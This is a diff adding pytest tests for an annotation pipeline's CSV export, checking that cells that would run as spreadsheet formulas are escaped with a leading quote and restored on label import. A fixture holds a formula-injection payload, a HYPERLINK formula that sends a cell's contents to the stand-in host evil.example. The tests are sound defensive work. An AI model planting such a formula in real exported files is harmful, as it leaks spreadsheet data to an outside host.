@@ -161,3 +161,70 @@ def test_unknown_sample_and_document_root_outside_are_errors(tmp_path, make_vqa)
     export_selection(_selection(["s000"]), ds, above.annotate, above.data.answers, above.artifacts, out, round_index=0)
     task = json.loads((out / TASKS_FILE).read_text())[0]
     assert task["data"]["image"] == "http://ls/data/local-files/?d=artifacts/rounds/000/export/images/s000.png"
+
+
+FORMULA_ANSWERS = ["cat", "=1+1", "@home", "-"]  # closed answers that a spreadsheet would run as formulas
+HYPERLINK = '=HYPERLINK("evil.example?c="&A1,"click").png'  # a file name holds no /
+
+
+def test_annotate_csv_cells_never_start_a_formula_and_the_label_import_reads_them_back(tmp_path, make_vqa):
+    """Issue 46 #16: annotate.csv wrote a cell like =HYPERLINK(…) raw (spreadsheet formula injection). Cells that
+    start a formula now carry a leading ' and the label import takes it off: a round trip keeps every label."""
+    from datasets import Dataset
+
+    from pipeline.annotation.labels import import_labels
+    from pipeline.annotation.ledger import Ledger
+    from pipeline.annotation.matching import SampleIndex
+    from pipeline.csvcells import FORMULA_START
+
+    ds, _ = make_vqa(n=4)
+    rows = ds.to_list()
+    rows[1]["image_path"] = str(tmp_path / "src" / HYPERLINK)
+    ds = Dataset.from_list(rows)
+    cfg = parse_config({"paths": {"artifacts": "artifacts"}, "data": {"answers": FORMULA_ANSWERS}}, root=tmp_path)
+    sel = _selection(["s000", "s001", "s002", "s003"])
+    for s, answer in zip(sel, FORMULA_ANSWERS, strict=True):
+        s["prediction"] = answer
+    out = export_dir(cfg.artifacts, 0)
+    export_selection(sel, ds, cfg.annotate, cfg.data.answers, cfg.artifacts, out, round_index=0)
+
+    with open(out / CSV_FILE, newline="", encoding="utf-8") as f:
+        table = list(csv.reader(f))
+    cells = [c for row in table for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run as a formula"
+    col = {name: k for k, name in enumerate(table[0])}
+    assert table[2][col["original_image"]] == "'" + HYPERLINK
+    assert [r[col["model_answer"]] for r in table[1:]] == ["cat", "'=1+1", "'@home", "'-"]
+
+    # The annotator accepts the model's answers, copying the cells as the file holds them, and saves it.
+    for row in table[1:]:
+        row[col["label"]] = row[col["model_answer"]]
+    labeled = tmp_path / "inbox" / "annotate-labeled.csv"
+    labeled.parent.mkdir()
+    with open(labeled, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f, lineterminator="\n").writerows(table)
+    # A second sheet names the samples by their file (the original_image cell, as exported), not by sample_id.
+    by_file = tmp_path / "inbox" / "by-file.csv"
+    by_file.write_text(f'image,label\n"{table[2][col["original_image"]].replace(chr(34), chr(34) * 2)}",@home\n',
+                       encoding="utf-8")
+
+    index = SampleIndex([r["sample_id"] for r in rows], None, [r["image_path"] for r in rows])
+    for path, round_index in ((labeled, 1), (by_file, 2)):
+        ledger = Ledger(tmp_path / "artifacts" / f"labels-{round_index}.jsonl")
+        rep = import_labels(path, known_ids=index, answers=FORMULA_ANSWERS, ledger=ledger, round_index=round_index,
+                            rejections_dir=tmp_path / "rejections")
+        assert not rep.rejected, rep.summary()
+        got = ledger.labels()
+        assert got == ({"s000": "cat", "s001": "=1+1", "s002": "@home", "s003": "-"} if path == labeled
+                       else {"s001": "@home"})
+
+
+def test_csv_cells_escape_formulas_keep_numbers_and_round_trip():
+    from pipeline.csvcells import escape_cell, unescape_cell
+
+    cases = {"=SUM(A1)": "'=SUM(A1)", "+x": "'+x", "-": "'-", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
+             "-0.523": "-0.523", "+3": "+3", "1e-5": "1e-5", "'quoted": "''quoted", "'=x": "''=x", "plain": "plain",
+             "": "", "'": "''"}
+    for value, cell in cases.items():
+        assert escape_cell(value) == cell and unescape_cell(cell) == value, value
+    assert escape_cell(None) == "" and unescape_cell("'typed by hand") == "'typed by hand"
